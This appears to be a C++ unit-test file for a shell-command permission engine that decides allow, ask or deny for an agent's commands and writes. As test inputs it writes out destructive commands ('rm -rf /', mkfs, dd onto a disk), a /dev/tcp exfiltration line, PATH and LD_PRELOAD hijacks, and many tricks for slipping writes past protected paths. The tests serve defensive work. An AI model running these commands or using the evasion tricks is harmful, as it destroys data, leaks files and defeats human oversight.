#include "cells/decisions/decisions.h"

#include <gtest/gtest.h>

#include "base/strings.h"
#include "cells/decisions/command_list.h"
#include "cells/decisions/standard.h"

namespace hotcell::cells {
namespace {

const WallTime kNow{std::chrono::seconds(1'800'000'000)};

DecisionPolicy policy_of(std::string_view yaml) {
  auto p = parse_decisions(yaml, "d.yaml");
  EXPECT_TRUE(p.ok()) << (p.ok() ? "" : p.error().message);
  return p.ok() ? p.value() : DecisionPolicy{};
}
Decision judge(const DecisionPolicy& p, std::string line, std::vector<Grant> grants = {}) { return decide(p, grants, {ActionClass::kCommand, std::move(line)}, kNow); }
Decision judge_write(const DecisionPolicy& p, std::string path, std::vector<Grant> grants = {}) { return decide(p, grants, {ActionClass::kWrite, std::move(path)}, kNow); }
Grant command_grant(std::string pattern) { return {ActionClass::kCommand, std::move(pattern), std::nullopt, "anna"}; }
Grant write_grant(std::string pattern) { return {ActionClass::kWrite, std::move(pattern), std::nullopt, "anna"}; }

#define EXPECT_ANSWER(decision, expected)                        \
  do {                                                           \
    Decision d_ = (decision);                                    \
    EXPECT_EQ(d_.answer, Answer::expected) << d_.reason;         \
    EXPECT_NE(d_.reason, "");                                    \
  } while (0)

// Safe by their names, and npm test. What is denied stands last on purpose.
const char kSome[] = R"(
rules:
  - {command: "echo *", action: allow}
  - {command: "ls *", action: allow}
  - {command: "cat *", action: allow}
  - {command: "git *", action: allow}
  - {command: "npm test *", action: allow, reason: the tests}
  - {command: "xargs *", action: allow}
  - {command: "env *", action: allow}
  - {command: "sudo *", action: allow}
  - {command: "bash *", action: allow}
  - {command: "rm *", action: deny, reason: nothing is removed}
)";

TEST(Decisions, WhatNothingMatchesIsAskedNotAllowed) {  // SEEDS 2.5: default allow
  EXPECT_ANSWER(judge(policy_of("rules: []"), "make"), kAsk);
  EXPECT_ANSWER(judge_write(policy_of("rules: []"), "a.c"), kAsk);
  EXPECT_ANSWER(judge(DecisionPolicy{}, "make"), kAsk);
  EXPECT_EQ(judge(DecisionPolicy{}, "make").reason, "nothing matches");
  EXPECT_ANSWER(judge(policy_of("default: allow"), "make"), kAllow);  // only who says so
  EXPECT_ANSWER(judge(policy_of("default: deny"), "make"), kDeny);
}

TEST(Decisions, ADenyRuleWinsWhereverItStands) {  // SEEDS 2.5: first match wins, without precedence of deny
  auto p = policy_of("rules:\n  - {command: \"git *\", action: allow}\n  - {command: \"git push *\", action: deny, reason: not from here}\n");
  EXPECT_ANSWER(judge(p, "git status"), kAllow);
  Decision d = judge(p, "git push origin main");
  EXPECT_EQ(d.answer, Answer::kDeny);
  EXPECT_EQ(d.reason, "rule 2: git push * (not from here)");
  auto w = policy_of("protected: []\nrules:\n  - {write: \"src/**\", action: allow}\n  - {write: \"*.lock\", action: deny}\n");
  EXPECT_ANSWER(judge_write(w, "src/a.c"), kAllow);
  EXPECT_ANSWER(judge_write(w, "src/x.lock"), kDeny);
}

TEST(Decisions, ADenyRuleWinsOverAGrant) {  // SEEDS 2.5: grants were looked at first
  auto p = policy_of(kSome);
  EXPECT_ANSWER(judge(p, "rm x", {command_grant("rm *")}), kDeny);
  EXPECT_ANSWER(judge(p, "rm x", {command_grant("rm x")}), kDeny);
}

TEST(Decisions, AGrantAllowsUntilItExpires) {
  auto p = policy_of(kSome);
  Grant g = command_grant("make *");
  EXPECT_ANSWER(judge(p, "make all"), kAsk);
  EXPECT_ANSWER(judge(p, "make all", {g}), kAllow);
  g.expires = kNow + std::chrono::seconds(1);
  EXPECT_ANSWER(judge(p, "make all", {g}), kAllow);
  EXPECT_EQ(judge(p, "make all", {g}).reason, "granted by anna until 2027-01-15T08:00:01Z: make *");
  g.expires = kNow;
  EXPECT_ANSWER(judge(p, "make all", {g}), kAsk);
  g.expires.reset();
  g.what = ActionClass::kWrite;
  EXPECT_ANSWER(judge(p, "make all", {g}), kAsk);  // of another kind
}

TEST(Decisions, TheFirstRuleThatMatchesDecidesBetweenAllowAndAsk) {
  auto p = policy_of("rules:\n  - {command: \"npm publish *\", action: ask, reason: goes out}\n  - {command: \"npm *\", action: allow}\n");
  EXPECT_EQ(judge(p, "npm publish").reason, "rule 1: npm publish * (goes out)");
  EXPECT_ANSWER(judge(p, "npm publish --tag x"), kAsk);
  EXPECT_ANSWER(judge(p, "npm ci"), kAllow);
}

TEST(Decisions, AProtectedPathIsDeniedWhateverIsGranted) {
  auto p = policy_of("default: allow\nprotected: [.git, .env, \".env.*\", /work/ci/deploy.sh]\nrules: [{write: \"**\", action: allow}]\n");
  std::vector<Grant> all = {write_grant("**"), write_grant(".git"), write_grant("/work/.git/config")};
  for (const char* path : {".git", ".git/config", "/work/.git/hooks/pre-commit", "deep/er/.git/x", ".env", "a/.env", ".env.local", "./.git/x", "src/../.git/x",
                           "src//..//.git//x", ".GIT/config", ".Git", "x/./.env", ".git/", "/work/src/../../work/.env", "ci/deploy.sh", "../work/.env"}) {
    Decision d = judge_write(p, path, all);
    EXPECT_EQ(d.answer, Answer::kDeny) << path;
    EXPECT_TRUE(d.reason.starts_with("protected by ")) << path << ": " << d.reason;
  }
  EXPECT_EQ(judge_write(p, ".git/config", all).reason, "protected by .git");
  for (const char* path : {"a.git", ".gitignore", "git/x", "environment", "src/env", ".environment", "ci/deploy.sh.bak"})
    EXPECT_ANSWER(judge_write(p, path, all), kAllow);
  // Looking is not writing.
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kRead, ".git/config"}, kNow), kAllow);
}

TEST(Decisions, WritersOfProtectedPathsAreDeniedInCommandsToo) {
  auto p = policy_of("default: allow\nprotected: [.git, .env]\n");
  for (const char* line : {"rm -rf .git", "echo x > .git/config", "echo x >> src/../.env", "tee .env", "cp a .git/hooks/pre-commit", "mv .git away", "ls && chmod 777 .git",
                           "sed -i s/a/b/ .env", "dd if=x of=.env", "echo $(rm .env)", "cp -t .git/hooks x", "bash -c 'rm -rf .git'", "cat x &> .env", "nice rm .env"}) {
    Decision d = judge(p, line, {command_grant(line), command_grant("*"), write_grant("**")});
    EXPECT_EQ(d.answer, Answer::kDeny) << line << ": " << d.reason;
    EXPECT_NE(d.reason.find("protected by ."), std::string::npos) << line << ": " << d.reason;
  }
  for (const char* line : {"cat .git/config", "cp .env /tmp/x", "grep x .env", "ls .git", "sed s/a/b/ .env", "git commit -m .git", "cat < .env"}) EXPECT_ANSWER(judge(p, line), kAllow);
}

// The name that is written is another one behind a cd.
TEST(Decisions, WhereALineHasGoneIsWhereItWrites) {
  auto p = policy_of("default: allow\nprotected: [.git, /work/ci/deploy.sh]\nrules: [{write: \"**/secret/**\", action: deny}]\n");
  for (const char* line : {"cd .git && echo x > config", "cd .git; cat ../x | tee config", "cd src; cd ../.git; touch x", "pushd .git && rm config", "cd /work/.git && cp /tmp/x hooks/y",
                           "bash -c 'cd .git; echo x >> config'", "builtin cd -P .git && echo x > config", "eval 'cd .git'; echo x > config", "cd ci && echo x > deploy.sh",
                           "cd a/secret && { echo x; } > b", "cd $X; cd .git; echo x > config", "(cd .git && echo x > config)", "if cd .git; then echo x > y; fi"}) {
    Decision d = judge(p, line, {command_grant(line), command_grant("*"), write_grant("**")});
    EXPECT_EQ(d.answer, Answer::kDeny) << line << ": " << d.reason;
    EXPECT_TRUE(d.reason.starts_with("writing ")) << line << ": " << d.reason;
  }
  for (const char* line : {"cd .git && cat config > /tmp/x", "cd .git; cd ..; echo x > config", "cd .git; cd; echo x > config", "cd .git; cd -; echo x > config", "bash -c 'cd .git; ls'; echo x > config",
                           "cd src && echo x > config", "cd ci; echo x > sub/deploy.sh", "pushd .git; popd; echo x > config", "echo x > config; cd .git"})
    EXPECT_EQ(judge(p, line, {command_grant("*"), write_grant("**")}).answer, Answer::kAllow) << line;
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kCommand, "echo x > config", "/work/.git"}, kNow), kDeny);
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kCommand, "cd ..; echo x > config", ".git"}, kNow), kAllow);
  EXPECT_EQ(list_commands("cd a && cd b; bash -c 'cd c'", "x").in.now(), (Folders{"x", "x/a", "x/a/b", "x/b"}));
  // It adds nothing to what is allowed.
  auto few = policy_of("rules: [{command: \"echo *\", action: allow}, {command: \"cd *\", action: allow}, {write: \"out/**\", action: allow}]\n");
  EXPECT_ANSWER(judge(few, "cd out; echo x > y"), kAsk);
  EXPECT_ANSWER(judge(few, "echo x > out/y"), kAllow);
  auto rooted = policy_of("rules: [{command: \"* *\", action: allow}, {write: \"/work/out/**\", action: allow}]\n");
  EXPECT_ANSWER(judge(rooted, "cd /etc; echo x > out/y"), kAsk);
  EXPECT_ANSWER(judge(rooted, "cd /work; echo x > out/y"), kAllow);
}

// Each line writes .git/config, or may. What only its own process has gone to is nobody else's folder, and what may have failed, or
// may not have been run, leaves the shell where it was.
TEST(Decisions, EveryFolderThatALineMayBeInIsJudged) {
  auto p = policy_of("default: allow\nprotected: [.git]\n");
  for (const char* line :
       {"cd .git; cd /nope; echo x > config", "cd .git; cd nope || true; echo x > config", "cd .git; (cd /work); echo x > config", "cd .git; (cd ..; ls); echo x > config",
        "cd .git; x=$(cd /work; ls); echo x > config", "cd .git; cd /work | ls; echo x > config", "cd .git; ls | cd /work; echo x > config", "cd .git; cd /work & echo x > config",
        "cd .git; true || cd /work; echo x > config", "cd .git; false && cd ..; echo x > config", "cd .git; if false; then cd /work; fi; echo x > config",
        "cd .git; case a in b) cd /work;; esac; echo x > config", "cd .git; for i in $none; do cd /work; done; echo x > config", "cd .git; cd /work </nope; echo x > config",
        "cd .git; { cd /work; } </nope; echo x > config", "cd .git; nice cd /work; echo x > config", "cd .git; /usr/bin/cd /work; echo x > config",
        "cd .git; env cd /work; echo x > config", "cd .git; cd /work extra; echo x > config", "cd .git; cd --nope /work; echo x > config", 
        "cd .git; cat <(cd /work) ; echo x > config", "cd .git; coproc cd /work; echo x > config", "pushd /nope; cd .git; popd; echo x > config", "pushd -n .git; popd; echo x > config",
        "pushd .git; pushd src; popd; echo x > config", "pushd .git; pushd /work; pushd; echo x > config", "cd .git; cd /work; cd -; echo x > config", "cd t; cd /work/.git; rmdir ../t; cd -; echo x > config",
        "env -C .git tee config", "env --chdir=.git tee config", "env --chdir .git tee config", "env -C.git sh -c 'echo x > config'", "sudo -D .git tee config", "env -C src -C ../.git tee config",
        "env -C .git sh -c 'cd nope; tee config'", "f() { echo x > config; }; cd .git; f", "trap 'echo x > config' EXIT; cd .git", "alias w='tee config'; cd .git; w",
        "(cd .git; tee config)", "x=$(cd .git; tee config)", "cd .git; { cd nope; tee config; }"}) {
    Decision d = judge(p, line, {command_grant("*"), write_grant("**")});
    EXPECT_EQ(d.answer, Answer::kDeny) << line << ": " << d.reason;
  }
  // Not all that it may be in can be said: then somebody is asked.
  for (const char* line : {"for i in 1 2; do echo x > config; cd .git; done", "while true; do tee config; cd .git; done", "f() { cd .git; }; cd /work; f; echo x > config", "cd() { true; }; cd src; echo x > y",
                           "cd .git; cd() { true; }; cd /work; echo x > y", "alias cd=true; cd /work; echo x > y", "HOME=/work/.git; cd; echo x > config", "export CDPATH=.git; cd hooks; echo x > y",
                           "trap 'cd .git' DEBUG; cd /work; echo x > config", "find . -execdir touch x \\;", "cd a; cd b; cd c; cd d; cd e; echo x > y"}) {
    Decision d = judge(p, line, {command_grant("*"), write_grant("**")});
    EXPECT_GE(d.answer, Answer::kAsk) << line << ": " << d.reason;
    EXPECT_TRUE(d.reason.starts_with("writing ")) << line << ": " << d.reason;
  }
  // The control: elsewhere for certain, or nothing that is written there.
  for (const char* line :
       {"(cd .git; ls); echo x > config", "x=$(cd .git; ls); echo x > config", "cd .git | ls; echo x > config", "cd .git | tee config", "cd .git & echo x > config", "cat <(cd .git; ls); echo x > config",
        "env -C .git ls; echo x > config", "env -C src tee config", "nice cd .git; echo x > config", "cd .git; cd /work; echo x > config", "cd .git; cd /tmp; echo x > config",
        "cd .git; ls; cd ..; echo x > config", "for d in a b; do (cd $d && make > log); done", "f() { echo x > y; }; f", "cd a; cd b; cd c; cd d; cd e; cd; echo x > y", "find . -exec touch x \\;",
        "cd .git; echo x > /tmp/config"}) {
    Decision d = judge(p, line, {command_grant("*"), write_grant("**")});
    EXPECT_EQ(d.answer, Answer::kAllow) << line << ": " << d.reason;
  }
  // And over several lines of one shell.
  Whereabouts in = list_commands("cd .git").in;
  in = list_commands("cd nope", in).in;
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kCommand, "echo x > config", in}, kNow), kDeny);
  in = list_commands("cd /work", in).in;
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kCommand, "echo x > config", in}, kNow), kAllow);
  EXPECT_ANSWER(decide(p, {}, {ActionClass::kCommand, "cd -; echo x > config", in}, kNow), kDeny);
}

TEST(Decisions, NamesInsideWordsAreNoCommands) {  // SEEDS 4.4: "init" and "mount" matched inside words
  auto p = standard_decisions();
  EXPECT_ANSWER(judge(p, "mount /dev/sda /mnt"), kDeny);
  EXPECT_ANSWER(judge(p, "init 0"), kDeny);
  EXPECT_ANSWER(judge(p, "echo amount initial mount init"), kAllow);
  EXPECT_ANSWER(judge(p, "ls mount init.d reinit"), kAllow);
  EXPECT_ANSWER(judge(p, "npm init"), kAsk);
  EXPECT_ANSWER(judge(p, "git submodule init"), kAsk);
  EXPECT_ANSWER(judge(p, "mountpoint /x"), kAsk);
  EXPECT_ANSWER(judge(p, "echo mkfs"), kAllow);
  EXPECT_ANSWER(judge(p, "rm -rf /tmp/x"), kAsk);
  EXPECT_ANSWER(judge(p, "rm -rf /"), kDeny);
}

TEST(Decisions, ASafeBeginningDoesNotHideWhatFollows) {  // SEEDS 4.5: SAFE prefix was tested before BLOCK
  auto p = policy_of(kSome);
  EXPECT_ANSWER(judge(p, "echo x"), kAllow);
  EXPECT_ANSWER(judge(p, "echo x; rm -rf /"), kDeny);
  EXPECT_EQ(judge(p, "echo x; rm -rf /").reason, "rm -rf /: rule 10: rm * (nothing is removed)");
  EXPECT_ANSWER(judge(p, "echo x; make"), kAsk);
}

TEST(Decisions, AnInterpreterWithCodeIsNotSafeByItsName) {  // SEEDS 4.5: `python -c "…"` was SAFE
  EXPECT_ANSWER(judge(standard_decisions(), "python -c \"import os; os.remove('x')\""), kAsk);
  EXPECT_ANSWER(judge(standard_decisions(), "python3 -c 'print(1)'"), kAsk);
  EXPECT_ANSWER(judge(standard_decisions(), "perl -e 'unlink q(x)'"), kAsk);
}

TEST(Decisions, TheRestOfALineCountsNotOnlyItsFirstWord) {  // SEEDS 4.5: shlex, `ls && rm -rf ~` passed
  auto p = policy_of(kSome);
  EXPECT_ANSWER(judge(p, "ls"), kAllow);
  for (const char* line : {"ls && rm -rf ~", "ls || rm -rf ~", "ls | rm -rf ~", "ls & rm -rf ~", "ls\nrm -rf ~", "ls ; rm -rf ~", "(ls; rm x)", "{ ls; rm x; }", "! rm x", "time rm x",
                           "if ls; then rm x; fi", "for i in a; do rm $i; done", "while rm x; do ls; done", "case x in x) rm x;; esac", "f() { rm x; }; f", "ls $(rm x)", "ls `rm x`",
                           "ls \"$(rm x)\"", "ls <(rm x)", "cat <<EOF\n$(rm x)\nEOF", "echo ${x:-$(rm x)}", "x=$(rm x)", "coproc rm x", "ls > $(rm x)", "[[ $(rm x) ]]"})
    EXPECT_EQ(judge(p, line).answer, Answer::kDeny) << line << ": " << judge(p, line).reason;
}

TEST(Decisions, ACommandInsideAnotherIsSeen) {
  auto p = policy_of(kSome);
  for (const char* line : {"env rm x", "env A=1 rm x", "env -u HOME -i rm x", "sudo rm x", "sudo -u root rm x", "nice rm x", "nice -n 5 rm x", "nohup rm x", "timeout 5 rm x",
                           "timeout -k 1 5 rm x", "timeout --signal=KILL 5 rm x", "setsid rm x", "stdbuf -oL rm x", "ionice -c 3 rm x", "command rm x", "builtin rm x", "exec rm x", "exec -a ls rm x",
                           "xargs rm", "ls | xargs -n 1 rm", "xargs -I {} rm {}", "busybox rm x", "find . -exec rm {} \\;", "find . -name x -execdir rm {} +", "bash -c 'rm x'", "bash -lc 'ls; rm x'",
                           "sh -ec \"rm x\"", "bash --norc -c 'rm x'", "bash -o pipefail -c 'rm x'", "env bash -c 'nice sh -c \"rm x\"'", "eval rm x", "eval 'ls; rm x'", "bash <<'EOF'\nrm x\nEOF", "bash <<EOF\nrm x\nEOF",
                           "bash <<< 'rm x'", "trap 'rm x' EXIT", "alias ls='rm x'", "su -c 'rm x'", "watch 'rm x'", "flock /tmp/l rm x", "flock /tmp/l -c 'rm x'", "chroot / rm x", "/bin/rm x",
                           "./rm x", "\\rm x", "'rm' x", "r''m x", "A=1 rm x", "PATH=/tmp rm x", "rm", "script -c 'rm x' out", "strace -f rm x"})
    EXPECT_EQ(judge(p, line).answer, Answer::kDeny) << line << ": " << judge(p, line).reason;
  // The wrapper is no leave for what is inside it, and needs none of its own.
  for (const char* line : {"nice npm test", "timeout 60 npm test --watch", "bash -c 'npm test'", "env CI=1 npm test", "nohup nice npm test", "bash -lc 'ls && npm test'", "CI=1 npm test", "LC_ALL=C ls",
                           "/usr/bin/ls -l", "ls 2>&1", "ls 2>/dev/null", "x=1; echo $x", "! ls", "npm test # rm x", "echo 'rm x'", "echo \"a; rm x\"", "cat <<'EOF'\nrm x\nEOF"})
    EXPECT_EQ(judge(p, line).answer, Answer::kAllow) << line << ": " << judge(p, line).reason;
  for (const char* line : {"env make", "sudo make", "bash -c make", "nice make", "xargs make", "echo x | bash -s make; make"}) EXPECT_ANSWER(judge(p, line), kAsk);
}

TEST(Decisions, WhatCannotBeKnownIsNeverAllowedByAPart) {
  auto p = policy_of(kSome);
  for (const char* line : {"ls (", "ls 'open", "ls; if", "$CMD x", "\"$CMD\" x", "$(echo rm) x", "eval $X", "bash -c \"$X\"", "{rm,x}", "r${x}m y", "env -S 'rm x'", "nice --strange ls", "timeout --sig KILL 5 ls",
                           "PATH=/tmp/mine ls", "LD_PRELOAD=/tmp/x.so ls", "env PATH=/tmp/mine ls", "PATH=/tmp/mine; ls", "./ls", "/tmp/ls", "echo $((x))", "echo ${x@P}", "echo ${a[x]}", "echo ${!x}",
                           "[[ x -eq 1 ]]", "((x))", "bash <<EOF\n$X\nEOF", "ls > $X", "BASH_ENV=x bash -c ls", "bash --rcfile x -c 'y'", "parallel ls ::: a", "cat /x > /dev/tcp/1.2.3.4/80"}) {
    Decision d = judge(p, line);
    EXPECT_NE(d.answer, Answer::kAllow) << line << ": " << d.reason;
    // A rule for everything is a rule for less than this text…
    if (std::string_view(line).find("ls (") == 0 || std::string_view(line).find("ls 'open") == 0) EXPECT_ANSWER(judge(p, line, {command_grant("*"), command_grant("ls *")}), kAsk);
  }
  // … and one for exactly this text is enough, but never against what is denied.
  EXPECT_ANSWER(judge(p, "ls 'open", {command_grant("ls 'open")}), kAllow);
  EXPECT_ANSWER(judge(p, "echo $((x))", {command_grant("echo $((x))")}), kAllow);
  EXPECT_ANSWER(judge(p, "rm x 'open", {command_grant("rm x 'open")}), kDeny);
}

TEST(Decisions, AVariableMayBecomeWhatARuleDenies) {
  auto p = policy_of("rules:\n  - {command: \"git *\", action: allow}\n  - {command: \"git push *\", action: deny}\n  - {command: \"*\", action: allow}\n");
  EXPECT_ANSWER(judge(p, "git status $X"), kAllow);
  EXPECT_ANSWER(judge(p, "git $X"), kAsk);
  EXPECT_ANSWER(judge(p, "git p*"), kAsk);
  EXPECT_ANSWER(judge(p, "$X"), kAsk);
  EXPECT_ANSWER(judge(p, "git {push,x}"), kAsk);
  EXPECT_ANSWER(judge(p, "make $X"), kAllow);
}

TEST(Decisions, AStarStandsForAWordsPartOrForTheRest) {
  auto p = policy_of("rules:\n  - {command: \"npm run test:* --\", action: allow}\n  - {command: \"make\", action: allow}\n  - {command: \"cargo * --locked\", action: allow}\n");
  EXPECT_ANSWER(judge(p, "npm run test:unit --"), kAllow);
  EXPECT_ANSWER(judge(p, "npm run test:unit -- x"), kAsk);
  EXPECT_ANSWER(judge(p, "npm run 'test:unit x' --"), kAsk);
  EXPECT_ANSWER(judge(p, "make"), kAllow);
  EXPECT_ANSWER(judge(p, "make all"), kAsk);
  EXPECT_ANSWER(judge(p, "cargo build --locked"), kAllow);
  EXPECT_ANSWER(judge(p, "cargo build x --locked"), kAsk);
}

TEST(Decisions, RedirectionsAreWrites) {
  auto p = policy_of("rules:\n  - {command: \"echo *\", action: allow}\n  - {write: \"out/**\", action: allow}\n  - {write: \"*.key\", action: deny}\n");
  EXPECT_ANSWER(judge(p, "echo x > out/a"), kAllow);
  EXPECT_ANSWER(judge(p, "echo x > other"), kAsk);
  EXPECT_ANSWER(judge(p, "echo x > out/a.key"), kDeny);
  EXPECT_ANSWER(judge(p, "echo x >&2"), kAllow);
  EXPECT_ANSWER(judge(p, "echo x >/dev/null 2>&1"), kAllow);
  EXPECT_ANSWER(judge(p, "{ echo x; } > other"), kAsk);
}

TEST(Decisions, WordsOfAnArgvAreJudgedAsTheyAre) {
  auto p = policy_of(kSome);
  auto words = [&](std::vector<std::string> argv) { return decide(p, {}, command_action(argv), kNow).answer; };
  EXPECT_EQ(words({"echo", "x; rm -rf /"}), Answer::kAllow);
  EXPECT_EQ(words({"echo", "$(rm x)", "`rm x`", "a'b"}), Answer::kAllow);
  EXPECT_EQ(words({"rm", "x"}), Answer::kDeny);
  EXPECT_EQ(words({"bash", "-c", "ls; rm x"}), Answer::kDeny);
  EXPECT_EQ(words({"bash", "-c", "echo 'it'\"'\"'s'; npm test"}), Answer::kAllow);
  EXPECT_EQ(words({"A=1", "x"}), Answer::kAsk);
  EXPECT_EQ(words({"if"}), Answer::kAsk);
  EXPECT_EQ(words({"time", "rm"}), Answer::kDeny);
  EXPECT_EQ(command_action({"bash", "-c", "it's"}).subject, "bash -c 'it'\\''s'");
  EXPECT_EQ(command_action({"npm", "run", "a:b", "--x=1"}).subject, "npm run a:b --x=1");
}

TEST(Decisions, EmptyAndBinarySubjectsAreDenied) {
  auto p = policy_of("default: allow");
  EXPECT_ANSWER(judge(p, ""), kDeny);
  EXPECT_ANSWER(judge(p, " \n"), kDeny);
  EXPECT_ANSWER(judge(p, std::string("ls\0rm", 5)), kAsk);
  EXPECT_ANSWER(judge_write(p, ""), kDeny);
  EXPECT_ANSWER(judge_write(p, std::string("a\0b", 3)), kDeny);
}

TEST(Decisions, NestingAndLengthAreBounded) {
  auto p = policy_of("default: allow");
  std::string line = "true";
  for (int i = 0; i < 40; ++i) line = cat("nice ", line);
  EXPECT_ANSWER(judge(p, line), kAsk);
  std::string deep = "x";
  for (int i = 0; i < 300; ++i) deep = cat("$(", deep, ")");
  EXPECT_ANSWER(judge(p, deep), kAsk);
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "a;";
  EXPECT_ANSWER(judge(p, many), kAsk);
}

struct Bad {
  const char *yaml, *message;
};
class BadDecisions : public ::testing::TestWithParam<Bad> {};
TEST_P(BadDecisions, AreRefusedWithTheirPlace) {
  auto p = parse_decisions(GetParam().yaml, "d.yaml");
  ASSERT_FALSE(p.ok());
  EXPECT_TRUE(p.error().message.starts_with(GetParam().message)) << p.error().message;
}
INSTANTIATE_TEST_SUITE_P(
    All, BadDecisions,
    ::testing::Values(Bad{"rulez: []", "d.yaml:1: unknown key \"rulez\"; did you mean \"rules\"?"}, Bad{"default: ask\ntimeout: 0", "d.yaml:2: timeout:"},
                      Bad{"timeout: 30d", "d.yaml:1: timeout:"}, Bad{"timeout: 1000h", "d.yaml:1: timeout: longer than seven days"},
                      Bad{"default: maybe", "d.yaml:1: default: \"maybe\" is none of allow, ask, deny"}, Bad{"default: [ask]", "d.yaml:1: default: wants text, not a list"},
                      Bad{"protected: .git", "d.yaml:1: protected: wants a list, not a single value"}, Bad{"protected:\n  - a//b", "d.yaml:2: protected: \"a//b\" has an empty segment"},
                      Bad{"rules: {}", "d.yaml:1: rules: wants a list"}, Bad{"rules:\n  - x", "d.yaml:2: rules: wants keys and values"},
                      Bad{"rules:\n  - {command: x}", "d.yaml:2: rules: a rule says its action"}, Bad{"rules:\n  - {action: allow}", "d.yaml:2: rules: a rule says command, read or write"},
                      Bad{"rules:\n  - {command: x, write: y, action: allow}", "d.yaml:2: rules: a rule is about one of"},
                      Bad{"rules:\n  - {command: \"\", action: allow}", "d.yaml:2: rules.command: \"\" is empty"}, Bad{"rules:\n  - {write: \"\", action: allow}", "d.yaml:2: rules.write: \"\" is empty"},
                      Bad{"rules:\n\n  - {comand: x, action: allow}", "d.yaml:3: unknown key \"comand\" in rules; did you mean \"command\"?"},
                      Bad{"rules:\n  - {command: x, action: alow}", "d.yaml:2: rules.action: \"alow\" is none of allow, ask, deny; did you mean \"allow\"?"}, Bad{"[]", "d.yaml:1: wants keys and values"},
                      Bad{"decisions: 5", "d.yaml:1: decisions: wants keys"}, Bad{"decisions: {}\nname: x", "d.yaml:1: unknown key \"decisions\""}, Bad{"a: &x 1", "d.yaml:1:"}));

TEST(Decisions, AFileMayBeAPartOfAProfileOrStandAlone) {
  auto p = policy_of("decisions: {default: deny, timeout: 90s, protected: [.git], rules: [{read: \"/etc/**\", action: ask, reason: why}]}");
  EXPECT_EQ(p.otherwise, Answer::kDeny);
  EXPECT_EQ(p.patience, std::chrono::seconds(90));
  EXPECT_EQ(p.protected_paths, std::vector<std::string>{".git"});
  ASSERT_EQ(p.rules.size(), 1u);
  EXPECT_EQ(p.rules[0].reason, "why");
  EXPECT_EQ(policy_of("timeout: 500ms").patience, std::chrono::seconds(1));
  // Who says nothing of protected paths has the standard ones; who says [] has none.
  EXPECT_EQ(policy_of("default: ask").protected_paths, standard_decisions().protected_paths);
  EXPECT_TRUE(policy_of("protected: []").protected_paths.empty());
}

TEST(Decisions, TheStandardOnesLookAndAskBeforeAnythingLeaves) {
  auto p = standard_decisions();
  ASSERT_TRUE(parse_decisions(standard_decisions_yaml(), "standard").ok());
  EXPECT_GT(p.rules.size(), 40u);
  for (const char* line : {"ls -la", "cat README.md | head -5", "grep -rn main src", "git status", "cd src && ls", "echo hi > notes.txt", "pwd"}) EXPECT_ANSWER(judge(p, line), kAllow);
  for (const char* line : {"npm install", "curl https://example.org", "python3 x.py", "make", "git push", "hotcell cell apply work a.c", "echo x | sh", "find . -delete", "rm -rf $X", "rm -rf /*"})
    EXPECT_ANSWER(judge(p, line), kAsk);
  for (const char* line : {"sudo ls", "rm -rf /", "rm -fr ~", "rm -rf \"$HOME\"", "rm -rf ${HOME}", "mkfs.ext4 /dev/sda", "echo x > /dev/sda", "dd if=/dev/zero of=/dev/sda", "rm -r --no-preserve-root /", "shutdown -h now",
                           "echo x > .git/hooks/pre-commit"})
    EXPECT_ANSWER(judge(p, line), kDeny);
  EXPECT_ANSWER(judge_write(p, "src/a.c"), kAllow);
  EXPECT_ANSWER(judge_write(p, ".env"), kDeny);
  EXPECT_ANSWER(judge_write(p, "/etc/passwd"), kAsk);
}

}  // namespace
}  // namespace hotcell::cells
